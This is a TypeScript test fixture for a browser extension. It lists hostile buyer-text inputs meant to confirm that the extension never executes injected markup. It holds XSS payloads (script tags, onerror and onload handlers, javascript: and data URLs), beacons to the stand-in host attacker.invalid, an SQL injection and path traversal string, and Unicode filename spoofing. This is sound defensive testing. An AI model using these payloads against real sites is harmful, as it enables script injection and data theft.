/**
 * Hostile buyer text: strings a buyer (or anyone who can put text on a Seller Central page) might write to make
 * the extension run code, load a URL or lose data. Every payload that could execute announces itself through one
 * of three canaries the tests watch: a dialog (alert/confirm/prompt), the global `window.__pwned`, or a request to
 * ATTACKER_ORIGIN. None of them may ever fire, and every string must come back out of the database as it went in.
 */

/** A host the tests never serve: any request to it means buyer text was interpreted as markup or a URL. */
export const ATTACKER_HOST = 'attacker.invalid';
export const ATTACKER_ORIGIN = `https://${ATTACKER_HOST}`;

export interface HostilePayload {
  name: string;
  text: string;
}

const beacon = (what: string) => `${ATTACKER_ORIGIN}/${what}`;

/** About 100 KB of text: a mix of Latin, CJK and markup so it is both big and hostile. */
export const HUGE_TEXT = Array.from(
  { length: 1_400 },
  (_, i) => `${i}: 漏水 <b>bold</b> &amp; <img src=${beacon(`huge${i}`)}> leaks`,
)
  .join(' ')
  .slice(0, 100_000);

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { name: 'script tag', text: '<script>window.__pwned=1;alert("script")</script>' },
  { name: 'script with src', text: `<script src="${beacon('script.js')}"></script>` },
  { name: 'img onerror', text: `<img src=x onerror="window.__pwned=1;fetch('${beacon('onerror')}')">` },
  { name: 'img beacon', text: `<img src="${beacon('img.png')}">` },
  { name: 'svg onload', text: '<svg/onload=window.__pwned=1;alert(document.domain)>' },
  { name: 'svg script', text: '<svg><script>window.__pwned=1</script></svg>' },
  { name: 'iframe javascript url', text: '<iframe src="javascript:window.top.__pwned=1"></iframe>' },
  { name: 'anchor javascript url', text: '<a href="javascript:alert(1)">click me</a>' },
  { name: 'bare javascript url', text: 'javascript:window.__pwned=1//' },
  { name: 'data url', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { name: 'attribute breakout', text: `"'><img src=x onerror=window.__pwned=1>` },
  { name: 'style import', text: `<style>@import url(${beacon('style.css')});</style>` },
  { name: 'css expression', text: `<div style="background:url(${beacon('bg.png')})">styled</div>` },
  { name: 'details ontoggle', text: '<details open ontoggle=window.__pwned=1>x</details>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal "${…}" is the payload
  { name: 'template literal', text: '${alert(1)} {{constructor.constructor("window.__pwned=1")()}}' },
  {
    name: 'encoded entities',
    text: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp;',
  },
  { name: 'numeric entities', text: '&#x3C;svg onload=alert(1)&#x3E; &#106;avascript:alert(1)' },
  { name: 'rtl override', text: 'Refund \u202Eexe.golonwod\u202C now \u2066isolated\u2069 \u200Fمرحبا بالعالم' },
  { name: 'emoji', text: 'Broken again 😡💔 👩‍👩‍👧‍👦 🇨🇳🇺🇸 1️⃣ ✔︎' },
  { name: 'cjk', text: '质量很差，盖子漏水。配件缺失！ 品質が悪い、蓋から水漏れ。 뚜껑이 새요' },
  { name: 'mixed cjk markup', text: '充电器无法充电 <img src=x onerror=alert(1)><script>window.__pwned=1</script>' },
  { name: 'lone surrogates and specials', text: 'a\uFFFDb \uFEFFbom x\u2028line\u2029para' },
  { name: 'sql and path', text: "'; DROP TABLE taggings; -- ../../etc/passwd %00 %3Cscript%3E" },
  { name: 'prototype keys', text: '__proto__ constructor prototype toString hasOwnProperty' },
  { name: 'huge text', text: HUGE_TEXT },
];

/**
 * The extension stores page text as the page shows it with runs of whitespace (and zero-width spaces) collapsed
 * to one space and trimmed: that is the only change a captured string may undergo.
 */
export function asCaptured(text: string): string {
  return text.replace(/[\s\u00a0\u200b\u3000]+/gu, ' ').trim();
}

/**
 * Payloads usable as a tag name exactly as typed: no path separator (">", full-width "＞"), at most 100 characters,
 * and unchanged by the name clean-up (NFKC, trimmed, whitespace collapsed).
 */
export const HOSTILE_TAG_NAMES: readonly string[] = [
  `<script src=${beacon('tag.js')}`,
  '<img src=x onerror=window.__pwned=1',
  `<img src=${beacon('tag.png')}`,
  '<svg/onload=alert(1)//',
  'javascript:alert(document.cookie)',
  '&lt;b&gt;bold&lt;/b&gt; &amp;',
  '"\'`;--',
  'Refund \u202Eexe.golonwod',
  'Lid leaks 😡💔',
  '盖子漏水 配件缺失',
  '__proto__',
  'constructor',
];

/** Notes typed into the picker (at most 2,000 characters there): every payload short enough, as typed. */
export const HOSTILE_NOTES: readonly string[] = HOSTILE_PAYLOADS.filter((payload) => payload.text.length <= 2_000).map(
  (payload) => payload.text,
);

/** JSON that is safe to inline in a <script> element: no "</script>", no line separators. */
export function inlineJson(value: unknown): string {
  return JSON.stringify(value)
    .replace(/</g, '\\u003c')
    .replace(/>/g, '\\u003e')
    .replace(/\u2028/g, '\\u2028')
    .replace(/\u2029/g, '\\u2029');
}
